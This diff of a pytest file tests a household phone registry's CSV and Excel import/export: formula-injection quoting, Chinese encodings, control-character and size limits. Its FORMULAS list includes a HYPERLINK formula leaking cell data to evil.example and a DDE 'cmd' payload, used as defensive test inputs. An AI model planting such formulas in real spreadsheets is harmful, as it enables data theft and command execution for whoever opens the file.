@@ -1,5 +1,7 @@
 """The household registry and its CSV import/export, on a real SQLite database."""
 
+import codecs
+import csv
 import io
 
 import pytest
@@ -104,7 +106,10 @@ def test_quoted_multiline_notes_keep_line_numbers(registry):
     text = HEADER + ',87650001,H,3,1,101,,"line one\nline two",\n,12,H,3,1,1,,,\n'
     with pytest.raises(RegistryError) as e:
         csvfile.import_text(registry, text, "h.csv")
-    assert e.value.problems[0].startswith("h.csv:4: numbers:")
+    assert e.value.problems[0] == ("h.csv:2: notes: control character U+000A at character 9"
+                                   " (line breaks, tabs and other control characters are not"
+                                   " allowed)")
+    assert e.value.problems[1].startswith("h.csv:4: numbers:")
 
 
 def test_number_moves_between_households_in_one_import(registry):
@@ -167,8 +172,177 @@ def test_export_round_trip(registry):
                         '87650002=Lin Tao;13800138000\n')
     out = io.StringIO()
     assert csvfile.export_csv(registry, out) == 1
+    # A cell starting with + gets a ', so a spreadsheet keeps it as text.
     assert out.getvalue().splitlines()[1] == (
-        '1,+8659187650001,Hualin,3,1,101,"Chen, Mei","a ""note""",'
-        "+8659187650002=Lin Tao;+8613800138000")
+        "1,'+8659187650001,Hualin,3,1,101,\"Chen, Mei\",\"a \"\"note\"\"\","
+        "'+8659187650002=Lin Tao;+8613800138000")
     summary = csvfile.import_text(registry, out.getvalue())
     assert (summary.created, summary.updated) == (0, 1)
+
+
+# Hostile and foreign files ------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)", "'=already quoted", "'plain apostrophe", "normal"]
+
+
+def test_export_is_formula_safe_and_round_trips(registry):
+    """Every cell a spreadsheet would run starts with ' on export; import takes it off."""
+    registry.add(HouseholdData(numbers=[number(1)], room="101", community=FORMULAS[0],
+                               building=FORMULAS[2], unit=FORMULAS[3], residents=FORMULAS[1],
+                               notes=FORMULAS[4],
+                               neighbours=[(number(2), FORMULAS[5]), (number(3), "")]))
+    out = io.StringIO()
+    csvfile.export_csv(registry, out)
+    header, row = list(csv.reader(io.StringIO(out.getvalue())))
+    cells = dict(zip(header, row))
+    for name in ("numbers", "community", "building", "unit", "residents", "notes",
+                 "neighbours"):
+        assert cells[name].startswith("'"), name
+    assert cells["room"] == "101" and cells["community"] == "'" + FORMULAS[0]
+    before = registry.find(number(1))
+    csvfile.import_text(registry, out.getvalue(), "out.csv")
+    after = registry.find(number(1))
+    assert ([(n.number, n.name) for n in after.neighbours]
+            == [(number(2), FORMULAS[5]), (number(3), "")])
+    for name in ("community", "building", "unit", "room", "residents", "notes"):
+        assert getattr(after, name) == getattr(before, name), name
+    assert after.community == FORMULAS[0] and after.notes == FORMULAS[4]
+
+
+def test_quote_unquote_exact():
+    for text in FORMULAS + ["", "'", "''=x", "\t1", "\r1", "+8659187650001"]:
+        assert csvfile.unquote(csvfile.quote(text)) == text
+    assert csvfile.quote("+8659187650001") == "'+8659187650001"
+    assert csvfile.quote("Chen") == "Chen"
+
+
+ROW = ",87650001,华林花园,3,1,101,陈梅,独居老人,87650002=林涛\n"
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16",
+                                      "utf-16-le", "utf-16-be"])
+def test_import_encodings_of_chinese_excel_and_wps(registry, tmp_path, encoding):
+    path = tmp_path / "h.csv"
+    raw = (HEADER + ROW).encode(encoding)
+    if encoding == "utf-16-le":
+        raw = codecs.BOM_UTF16_LE + raw  # what Excel's "Unicode text" writes
+    if encoding == "utf-16-be":
+        raw = codecs.BOM_UTF16_BE + raw
+    path.write_bytes(raw)
+    assert str(csvfile.import_csv(registry, str(path))) == "1 households added, 0 updated"
+    h = registry.find("87650001")
+    assert (h.community, h.residents, h.notes) == ("华林花园", "陈梅", "独居老人")
+    assert [(n.number, n.name) for n in h.neighbours] == [(number(2), "林涛")]
+
+
+def test_import_utf16_tab_separated_as_excel_unicode_text(registry, tmp_path):
+    path = tmp_path / "h.txt"
+    path.write_bytes((HEADER + ROW).replace(",", "\t").encode("utf-16"))
+    csvfile.import_csv(registry, str(path))
+    assert registry.find("87650001").residents == "陈梅"
+
+
+def test_import_utf16_without_bom(registry, tmp_path):
+    path = tmp_path / "h.csv"
+    path.write_bytes((HEADER + ROW).encode("utf-16-le"))
+    csvfile.import_csv(registry, str(path))
+    assert registry.find("87650001").residents == "陈梅"
+
+
+def test_import_undecodable_file_is_located_and_says_what_was_tried(registry, tmp_path):
+    path = tmp_path / "h.csv"
+    # \x80 is neither UTF-8 nor GB18030 (nor the start of any multi-byte character).
+    path.write_bytes(HEADER.encode() + b",87650001,H,3,1,101,\x80\x80,,\n")
+    with pytest.raises(RegistryError) as e:
+        csvfile.import_csv(registry, str(path))
+    [problem] = e.value.problems
+    assert problem.startswith(f"{path}:2: not text in an encoding tried (UTF-8 with or without "
+                              "BOM, UTF-16, GB18030/GBK)")
+    assert "not GB18030" in problem and f"byte {len(HEADER) + 20}" in problem
+    assert registry.find("87650001") is None
+
+
+def test_import_refuses_huge_file_before_reading(registry, tmp_path, monkeypatch):
+    monkeypatch.setattr(csvfile, "MAX_FILE_BYTES", 1024 ** 2)
+    path = tmp_path / "h.csv"
+    path.write_text(HEADER + ROW * 30000, encoding="utf-8")
+    read = []
+    monkeypatch.setattr(csvfile, "decode", lambda raw, path: read.append(raw))
+    with pytest.raises(RegistryError) as e:
+        csvfile.import_csv(registry, str(path))
+    assert e.value.problems == [f"{path}: {path.stat().st_size} bytes, more than the 1 MiB a "
+                                "households file may have"]
+    assert read == []
+
+
+@pytest.mark.parametrize("column, value, message", [
+    ("notes", "x" * 501, "notes: 501 characters, longer than 500"),
+    ("residents", "陈\x1b[2J梅", "residents: control character U+001B at character 2"),
+    ("residents", "陈\t梅", "residents: control character U+0009 at character 2"),
+    ("notes", "abc\u202edcba", "notes: control character U+202E at character 4"),
+    ("neighbours", "87650002=Lin\x07", "neighbour +8659187650002: name: control character "
+                                        "U+0007 at character 4"),
+    ("neighbours", "87650002=" + "L" * 101, "neighbour +8659187650002: name: 101 characters, "
+                                            "longer than 100"),
+])
+def test_names_and_notes_limits_located(registry, column, value, message):
+    cells = dict(zip(HEADER.strip().split(","), ["", "87650001", "H", "3", "1", "101", "", "",
+                                                 ""]))
+    cells[column] = value
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerow(cells.values())
+    with pytest.raises(RegistryError) as e:
+        csvfile.import_text(registry, HEADER + out.getvalue(), "h.csv")
+    [problem] = e.value.problems
+    assert problem.startswith(f"h.csv:2: {message}")
+
+
+def workbook(tmp_path, rows, formats=None):
+    import openpyxl
+    book = openpyxl.Workbook()
+    sheet = book.active
+    for row in rows:
+        sheet.append(row)
+    for coordinate, number_format in (formats or {}).items():
+        sheet[coordinate].number_format = number_format
+    path = tmp_path / "h.xlsx"
+    book.save(path)
+    return path
+
+
+def test_import_xlsx_numbers_stay_as_written(registry, tmp_path):
+    header = HEADER.strip().split(",")
+    path = workbook(tmp_path, [
+        header,
+        # Landlines typed as numbers: an int, a float, and one whose leading 0 only the
+        # cell's format keeps (Excel's custom format "00000000000").
+        [None, 87650001, "华林花园", 3, 1, 101, "陈梅", None, "87650002=林涛"],
+        [None, 87650002.0, "华林花园", 3, 1, 102.0, None, None, None],
+        [None, 59187650003, "华林花园", 3, 1, 103, None, None, None],
+        [None, 13800138000, "华林花园", 3, 1, "0104", None, "'=text", None],
+    ], formats={"B4": "00000000000"})
+    assert str(csvfile.import_csv(registry, str(path))) == "4 households added, 0 updated"
+    one = registry.find("87650001")
+    assert (one.community, one.residents, one.room, one.building) == ("华林花园", "陈梅", "101", "3")
+    assert [(n.number, n.name) for n in one.neighbours] == [(number(2), "林涛")]
+    assert registry.find("87650002").room == "102"
+    assert registry.find("0591-87650003").room == "103"
+    mobile = registry.find("13800138000")
+    assert (mobile.room, mobile.notes) == ("0104", "=text")
+
+
+def test_import_xlsx_formula_and_row_limit_refused(registry, tmp_path, monkeypatch):
+    header = HEADER.strip().split(",")
+    path = workbook(tmp_path, [header, [None, 87650001, "H", 3, 1, 101, "=1+1", None, None]])
+    with pytest.raises(RegistryError) as e:
+        csvfile.import_csv(registry, str(path))
+    assert e.value.problems == [f"{path}:2: cell G2 is a formula (=1+1); paste it as values "
+                                "first"]
+    path = workbook(tmp_path, [header] + [[None, 87650000 + i, "H", 3, 1, i, None, None, None]
+                                          for i in range(1, 6)])
+    monkeypatch.setattr(csvfile, "MAX_ROWS", 3)
+    with pytest.raises(RegistryError) as e:
+        csvfile.import_csv(registry, str(path))
+    assert e.value.problems == [f"{path}: more than 3 rows"]
+    assert registry.households() == []
